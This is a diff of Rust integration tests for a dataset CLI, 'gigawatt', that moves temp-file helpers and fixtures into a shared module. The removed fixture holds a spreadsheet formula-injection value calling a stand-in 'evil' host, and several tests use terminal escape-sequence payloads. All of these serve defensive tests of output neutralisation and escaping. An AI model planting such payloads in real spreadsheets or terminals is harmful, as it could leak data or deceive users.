@@ -3,10 +3,9 @@
 
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
-use std::sync::atomic::{AtomicUsize, Ordering};
 
-const BIN: &str = env!("CARGO_BIN_EXE_gigawatt");
-const ROOT: &str = env!("CARGO_MANIFEST_DIR");
+mod common;
+use common::{BIN, ROOT, arg, fixture, fixture_text, generator, temp_dir, temp_file};
 
 /// Runs the binary from the crate root, with colour off and no terminal.
 fn run(args: &[&str]) -> Output {
@@ -37,40 +36,6 @@ fn describe(out: &Output) -> String {
     )
 }
 
-static COUNTER: AtomicUsize = AtomicUsize::new(0);
-
-/// A fresh path in the temp dir, removed on drop.
-struct TempPath(PathBuf);
-
-impl TempPath {
-    fn new(stem: &str) -> TempPath {
-        let n = COUNTER.fetch_add(1, Ordering::Relaxed);
-        let nanos = std::time::SystemTime::now()
-            .duration_since(std::time::UNIX_EPOCH)
-            .map_or(0, |d| d.as_nanos());
-        let path = std::env::temp_dir().join(format!(
-            "gigawatt-cli-{stem}-{}-{n}-{nanos}.toml",
-            std::process::id()
-        ));
-        assert!(!path.exists());
-        TempPath(path)
-    }
-
-    fn path(&self) -> &Path {
-        &self.0
-    }
-
-    fn arg(&self) -> &str {
-        self.0.to_str().expect("temp paths are UTF-8")
-    }
-}
-
-impl Drop for TempPath {
-    fn drop(&mut self) {
-        let _ = std::fs::remove_file(&self.0);
-    }
-}
-
 #[test]
 fn check_accepts_the_bundled_file() {
     let out = run(&["check", "data/openai-compute.toml"]);
@@ -96,39 +61,14 @@ fn check_without_a_file_checks_the_bundled_dataset() {
     assert!(stdout(&out).contains("ok: 6 providers, 5 commitments"));
 }
 
-const BROKEN: &str = r#"format = 1
-
-[dataset]
-title = "Broken"
-subject = "Broken Co"
-as_of = 2025-11-03T09:00:00
-
-[[sources]]
-id = "report"
-title = "A report"
-
-[[providers]]
-id = "cloud"
-name = "Cloud"
-kind = "hyperscaler"
-
-[[commitments]]
-id = "deal"
-provider = "nowhere"
-value = "30 GW"
-status = "done"
-source = "report"
-"#;
-
 #[test]
 fn check_lists_every_problem_with_file_line_column_and_path() {
-    let file = TempPath::new("broken");
-    std::fs::write(file.path(), BROKEN).unwrap();
-    let out = run(&["check", file.arg()]);
+    let file = fixture("broken.toml");
+    let out = run(&["check", arg(&file)]);
     assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
     assert!(stdout(&out).is_empty(), "{}", describe(&out));
     let err = stderr(&out);
-    let name = file.arg();
+    let name = arg(&file);
     let expected = [
         format!("{name}:6:9: dataset.as_of: expected a date like 2025-11-03"),
         format!("{name}:19:12: commitments[0].provider: no provider with id \"nowhere\""),
@@ -152,22 +92,20 @@ fn check_lists_every_problem_with_file_line_column_and_path() {
 
 #[test]
 fn check_with_data_flag_checks_that_file() {
-    let file = TempPath::new("broken-data");
-    std::fs::write(file.path(), BROKEN).unwrap();
-    let out = run(&["--data", file.arg(), "check"]);
+    let file = fixture("broken.toml");
+    let out = run(&["--data", arg(&file), "check"]);
     assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
-    assert!(stderr(&out).contains(&format!("{}:21:10:", file.arg())));
+    assert!(stderr(&out).contains(&format!("{}:21:10:", arg(&file))));
 }
 
 #[test]
 fn check_never_prints_control_characters_from_the_file() {
-    let file = TempPath::new("escape");
-    let text = BROKEN.replace(
+    let text = fixture_text("broken.toml").replace(
         "format = 1\n",
         "format = 1\n\"\\u001b]0;pwned\\u0007\" = 1\n",
     );
-    std::fs::write(file.path(), text).unwrap();
-    let out = run(&["check", file.arg()]);
+    let file = temp_file(&text);
+    let out = run(&["check", arg(&file)]);
     assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
     let err = stderr(&out);
     assert!(err.contains("pwned"), "{err}");
@@ -317,12 +255,13 @@ fn export_commitments_markdown_has_a_header_and_five_rows() {
 
 #[test]
 fn export_reads_the_data_flag() {
-    let file = TempPath::new("export-data");
-    let created = run(&["init", file.arg(), "--subject", "Example Corp"]);
+    let dir = temp_dir();
+    let file = dir.path().join("export-data.toml");
+    let created = run(&["init", arg(&file), "--subject", "Example Corp"]);
     assert_eq!(created.status.code(), Some(0), "{}", describe(&created));
     let out = run(&[
         "--data",
-        file.arg(),
+        arg(&file),
         "export",
         "commitments",
         "--format",
@@ -337,51 +276,54 @@ fn export_reads_the_data_flag() {
 
 #[test]
 fn init_writes_a_file_that_check_accepts_and_does_not_clobber() {
-    let file = TempPath::new("init");
-    let out = run(&["init", file.arg()]);
+    let dir = temp_dir();
+    let file = dir.path().join("init.toml");
+    let out = run(&["init", arg(&file)]);
     assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
-    let written = std::fs::read_to_string(file.path()).expect("init wrote the file");
+    let written = std::fs::read_to_string(&file).expect("init wrote the file");
     assert!(written.contains("format = 1"));
 
-    let checked = run(&["check", file.arg()]);
+    let checked = run(&["check", arg(&file)]);
     assert_eq!(checked.status.code(), Some(0), "{}", describe(&checked));
-    assert!(stdout(&checked).starts_with(file.arg()));
+    assert!(stdout(&checked).starts_with(arg(&file)));
 
     // Without --force an existing file is left alone, whatever it holds.
     let mine = "# my own notes, not a template\n";
-    std::fs::write(file.path(), mine).unwrap();
-    let again = run(&["init", file.arg()]);
+    std::fs::write(&file, mine).unwrap();
+    let again = run(&["init", arg(&file)]);
     assert_eq!(again.status.code(), Some(1), "{}", describe(&again));
     assert!(stderr(&again).contains("--force"), "{}", describe(&again));
-    assert_eq!(std::fs::read_to_string(file.path()).unwrap(), mine);
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), mine);
 
-    let forced = run(&["init", file.arg(), "--force"]);
+    let forced = run(&["init", arg(&file), "--force"]);
     assert_eq!(forced.status.code(), Some(0), "{}", describe(&forced));
-    assert_ne!(std::fs::read_to_string(file.path()).unwrap(), mine);
-    let checked = run(&["check", file.arg()]);
+    assert_ne!(std::fs::read_to_string(&file).unwrap(), mine);
+    let checked = run(&["check", arg(&file)]);
     assert_eq!(checked.status.code(), Some(0), "{}", describe(&checked));
 }
 
 #[test]
 fn init_quotes_an_awkward_subject() {
-    let file = TempPath::new("init-subject");
+    let dir = temp_dir();
+    let file = dir.path().join("init-subject.toml");
     let subject = r#"Quote "Co" \ Backslash"#;
-    let out = run(&["init", file.arg(), "--subject", subject]);
+    let out = run(&["init", arg(&file), "--subject", subject]);
     assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
-    let checked = run(&["check", file.arg()]);
+    let checked = run(&["check", arg(&file)]);
     assert_eq!(checked.status.code(), Some(0), "{}", describe(&checked));
-    let dataset = gigawatt::data::load_file(file.path()).unwrap();
+    let dataset = gigawatt::data::load_file(&file).unwrap();
     assert_eq!(dataset.subject, subject);
 }
 
 #[test]
 fn a_missing_data_file_is_named_in_the_error() {
-    let file = TempPath::new("missing");
-    let out = run(&["--data", file.arg(), "check"]);
+    let dir = temp_dir();
+    let file = dir.path().join("missing.toml");
+    let out = run(&["--data", arg(&file), "check"]);
     assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
     assert!(stdout(&out).is_empty(), "{}", describe(&out));
     let err = stderr(&out);
-    assert!(err.contains(file.arg()), "{}", describe(&out));
+    assert!(err.contains(arg(&file)), "{}", describe(&out));
     assert!(err.contains("cannot read"), "{}", describe(&out));
 
     assert!(!Path::new(ROOT).join("missing.toml").exists());
@@ -397,63 +339,13 @@ fn a_missing_data_file_is_named_in_the_error() {
 // ---------------------------------------------------------------------------
 // Issue 9 (hostile conditions) and issue 13 (help, completions, man page).
 
-/// A valid data file built around the given TOML fragments.
-const PROBE: &str = r#"format = 1
-
-[dataset]
-title = "Probe"
-subject = "Probe Co"
-as_of = 2025-11-03
-
-[[sources]]
-id = "report"
-title = "A report"
-
-[[providers]]
-id = "cloud"
-name = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")"
-parent = "@SUM(A1)"
-kind = "hyperscaler"
-hardware = ["-2+3", "+1"]
-summary = "line one\rline two"
-
-[[commitments]]
-id = "deal"
-provider = "cloud"
-value = "$1bn"
-status = "signed"
-
-[[notes]]
-subject = "Probe Co"
-kind = "stock"
-headline = "Down"
-change = "-3%"
-body = "\tfirst\rsecond"
-"#;
-
-fn probe_file(stem: &str) -> TempPath {
-    let file = TempPath::new(stem);
-    std::fs::write(file.path(), PROBE).unwrap();
-    let out = run(&["check", file.arg()]);
+/// `tests/fixtures/probe.toml`: valid, with formulas, `\r` and tabs in its
+/// strings.
+fn probe_file() -> PathBuf {
+    let file = fixture("probe.toml");
+    let out = run(&["check", arg(&file)]);
     assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
     file
-}
-
-/// A scratch folder, removed on drop.
-struct TempDir(PathBuf);
-
-impl TempDir {
-    fn new(stem: &str) -> TempDir {
-        let dir = TempPath::new(stem).0.with_extension("d");
-        std::fs::create_dir(&dir).unwrap();
-        TempDir(dir)
-    }
-}
-
-impl Drop for TempDir {
-    fn drop(&mut self) {
-        let _ = std::fs::remove_dir_all(&self.0);
-    }
 }
 
 fn no_controls(s: &str) -> bool {
@@ -465,9 +357,9 @@ fn no_controls(s: &str) -> bool {
 #[cfg(unix)]
 #[test]
 fn init_force_does_not_overwrite_a_symlinks_target() {
-    let dir = TempDir::new("init-link");
-    let target = dir.0.join("target.toml");
-    let link = dir.0.join("link.toml");
+    let dir = temp_dir();
+    let target = dir.path().join("target.toml");
+    let link = dir.path().join("link.toml");
     std::fs::write(&target, "mine\n").unwrap();
     std::os::unix::fs::symlink(&target, &link).unwrap();
     let out = run(&["init", "--force", link.to_str().unwrap()]);
@@ -480,9 +372,9 @@ fn init_force_does_not_overwrite_a_symlinks_target() {
 #[cfg(unix)]
 #[test]
 fn init_does_not_follow_a_dangling_symlink() {
-    let dir = TempDir::new("init-dangling");
-    let target = dir.0.join("nowhere.toml");
-    let link = dir.0.join("link.toml");
+    let dir = temp_dir();
+    let target = dir.path().join("nowhere.toml");
+    let link = dir.path().join("link.toml");
     std::os::unix::fs::symlink(&target, &link).unwrap();
     for args in [vec!["init"], vec!["init", "--force"]] {
         let mut args = args;
@@ -496,17 +388,17 @@ fn init_does_not_follow_a_dangling_symlink() {
 
 #[test]
 fn init_refuses_a_folder_and_leaves_no_temporary_files() {
-    let dir = TempDir::new("init-folder");
-    let out = run(&["init", "--force", dir.0.to_str().unwrap()]);
+    let dir = temp_dir();
+    let out = run(&["init", "--force", arg(dir.path())]);
     assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
-    assert!(dir.0.is_dir());
+    assert!(dir.path().is_dir());
     // A successful init leaves exactly the file it names.
-    let file = dir.0.join("new.toml");
+    let file = dir.path().join("new.toml");
     let out = run(&["init", file.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
     let out = run(&["init", "--force", file.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
-    let names: Vec<_> = std::fs::read_dir(&dir.0)
+    let names: Vec<_> = std::fs::read_dir(dir.path())
         .unwrap()
         .map(|e| e.unwrap().file_name())
         .collect();
@@ -517,8 +409,8 @@ fn init_refuses_a_folder_and_leaves_no_temporary_files() {
 
 #[test]
 fn csv_cells_that_look_like_formulas_are_neutralised_unless_raw() {
-    let file = probe_file("formula");
-    let providers = run(&["export", "providers", "--data", file.arg()]);
+    let file = probe_file();
+    let providers = run(&["export", "providers", "--data", arg(&file)]);
     assert_eq!(providers.status.code(), Some(0), "{}", describe(&providers));
     let text = stdout(&providers);
     let mut reader = csv::Reader::from_reader(text.as_bytes());
@@ -529,7 +421,7 @@ fn csv_cells_that_look_like_formulas_are_neutralised_unless_raw() {
     // Numeric columns stay numbers.
     assert_eq!(&row[6], "1000000000");
 
-    let notes = run(&["export", "notes", "--data", file.arg()]);
+    let notes = run(&["export", "notes", "--data", arg(&file)]);
     let text = stdout(&notes);
     let mut reader = csv::Reader::from_reader(text.as_bytes());
     let row = reader.records().next().unwrap().unwrap();
@@ -541,14 +433,14 @@ fn csv_cells_that_look_like_formulas_are_neutralised_unless_raw() {
         "export",
         "providers",
         "--data",
-        file.arg(),
+        arg(&file),
         "--format",
         "json",
     ]);
     let json: serde_json::Value = serde_json::from_str(&stdout(&json)).unwrap();
     assert_eq!(json[0]["parent"], "@SUM(A1)");
 
-    let raw = run(&["export", "providers", "--data", file.arg(), "--raw"]);
+    let raw = run(&["export", "providers", "--data", arg(&file), "--raw"]);
     assert_eq!(raw.status.code(), Some(0), "{}", describe(&raw));
     let text = stdout(&raw);
     let mut reader = csv::Reader::from_reader(text.as_bytes());
@@ -560,21 +452,8 @@ fn csv_cells_that_look_like_formulas_are_neutralised_unless_raw() {
 // 9.15: broken pipes and full disks.
 
 /// A valid file with `n` commitments: its export is far larger than a pipe's buffer.
-fn big_file(n: usize) -> TempPath {
-    let file = TempPath::new("big");
-    let mut text = String::from(
-        "format = 1\n[dataset]\ntitle = \"Big\"\nsubject = \"Big Co\"\nas_of = 2025-11-03\n\
-         [[sources]]\nid = \"report\"\ntitle = \"A report\"\n\
-         [[providers]]\nid = \"cloud\"\nname = \"Cloud\"\nkind = \"hyperscaler\"\n",
-    );
-    for i in 0..n {
-        text.push_str(&format!(
-            "[[commitments]]\nid = \"deal-{i}\"\nprovider = \"cloud\"\nvalue = \"about ${i}bn\"\n\
-             status = \"signed\"\nsource = \"report\"\nat = \"para {i}\"\n"
-        ));
-    }
-    std::fs::write(file.path(), text).unwrap();
-    file
+fn big_file(n: usize) -> tempfile::TempPath {
+    temp_file(&generator::generate(n, 1))
 }
 
 #[test]
@@ -587,7 +466,7 @@ fn export_into_a_closed_pipe_ends_quietly_with_status_0() {
                 "export",
                 "commitments",
                 "--data",
-                file.arg(),
+                arg(&file),
                 "--format",
                 format,
             ])
@@ -617,8 +496,8 @@ fn a_full_stdout_is_an_error_never_a_panic() {
             .open("/dev/full")
             .expect("/dev/full")
     };
-    let dir = TempDir::new("full");
-    let new = dir.0.join("new.toml");
+    let dir = temp_dir();
+    let new = dir.path().join("new.toml");
     let cases: [Vec<&str>; 4] = [
         vec!["check", "data/openai-compute.toml"],
         vec!["export", "commitments"],
@@ -644,8 +523,8 @@ fn a_full_stdout_is_an_error_never_a_panic() {
 
 #[test]
 fn file_names_with_control_characters_are_escaped_in_messages() {
-    let dir = TempDir::new("osc");
-    let file = dir.0.join("x\u{1b}]0;PWN\u{7}.toml");
+    let dir = temp_dir();
+    let file = dir.path().join("x\u{1b}]0;PWN\u{7}.toml");
     let arg = file.to_str().unwrap();
     for args in [
         vec!["init", arg],
@@ -665,7 +544,7 @@ fn file_names_with_control_characters_are_escaped_in_messages() {
             describe(&out)
         );
     }
-    let missing = dir.0.join("gone\u{1b}[2J.toml");
+    let missing = dir.path().join("gone\u{1b}[2J.toml");
     let out = run(&["check", missing.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(1));
     assert!(no_controls(&stderr(&out)), "{:?}", stderr(&out));
@@ -675,13 +554,13 @@ fn file_names_with_control_characters_are_escaped_in_messages() {
 
 #[test]
 fn a_carriage_return_in_prose_does_not_break_markdown_rows() {
-    let file = probe_file("cr");
+    let file = probe_file();
     for table in ["providers", "notes"] {
         let out = run(&[
             "export",
             table,
             "--data",
-            file.arg(),
+            arg(&file),
             "--format",
             "markdown",
         ]);
@@ -695,7 +574,7 @@ fn a_carriage_return_in_prose_does_not_break_markdown_rows() {
         "export",
         "notes",
         "--data",
-        file.arg(),
+        arg(&file),
         "--format",
         "markdown",
     ]);
@@ -708,20 +587,19 @@ fn a_carriage_return_in_prose_does_not_break_markdown_rows() {
 
 #[test]
 fn a_derived_date_past_9999_is_written_without_a_sign() {
-    let file = TempPath::new("y10k");
-    let text = PROBE
+    let text = fixture_text("probe.toml")
         .replace("as_of = 2025-11-03", "as_of = 9999-12-31")
         .replace(
             "[[notes]]",
             "[capacity]\ntarget = \"30 GW\"\nbuild_rate = \"1 GW per week\"\n\n[[notes]]",
         );
-    std::fs::write(file.path(), text).unwrap();
+    let file = temp_file(&text);
     for format in ["csv", "json", "markdown"] {
         let out = run(&[
             "export",
             "derived",
             "--data",
-            file.arg(),
+            arg(&file),
             "--format",
             format,
         ]);
@@ -735,8 +613,9 @@ fn a_derived_date_past_9999_is_written_without_a_sign() {
 #[test]
 fn init_refuses_a_subject_that_would_fail_check() {
     for subject in ["Evil\u{1b}]0;PWN\u{7}Co", "Two\nLines", "Del\u{7f}Co"] {
-        let file = TempPath::new("init-evil-subject");
-        let out = run(&["init", file.arg(), "--subject", subject]);
+        let dir = temp_dir();
+        let file = dir.path().join("init-evil-subject.toml");
+        let out = run(&["init", arg(&file), "--subject", subject]);
         assert_eq!(
             out.status.code(),
             Some(2),
@@ -745,7 +624,7 @@ fn init_refuses_a_subject_that_would_fail_check() {
         );
         assert!(stderr(&out).contains("--subject"), "{}", describe(&out));
         assert!(no_controls(&stderr(&out)), "{:?}", stderr(&out));
-        assert!(!file.path().exists(), "{subject:?}");
+        assert!(!file.exists(), "{subject:?}");
     }
 }
 
@@ -757,10 +636,11 @@ fn init_help_does_not_offer_data() {
     assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
     assert!(!stdout(&out).contains("--data"), "{}", stdout(&out));
     // Given anyway, it is a usage error, not silently ignored.
-    let file = TempPath::new("init-data");
-    let out = run(&["--data", "data/openai-compute.toml", "init", file.arg()]);
+    let dir = temp_dir();
+    let file = dir.path().join("init-data.toml");
+    let out = run(&["--data", "data/openai-compute.toml", "init", arg(&file)]);
     assert_eq!(out.status.code(), Some(2), "{}", describe(&out));
-    assert!(!file.path().exists());
+    assert!(!file.exists());
 }
 
 #[test]
@@ -821,11 +701,12 @@ fn version_and_usage_errors() {
 fn bash_accepts_the_completion_script() {
     let out = run(&["completions", "bash"]);
     assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
-    let script = TempPath::new("completion");
-    std::fs::write(script.path(), &out.stdout).unwrap();
+    let dir = temp_dir();
+    let script = dir.path().join("completion.toml");
+    std::fs::write(&script, &out.stdout).unwrap();
     let bash = Command::new("bash")
         .arg("-n")
-        .arg(script.path())
+        .arg(&script)
         .output()
         .expect("bash");
     assert!(bash.status.success(), "{}", describe(&bash));
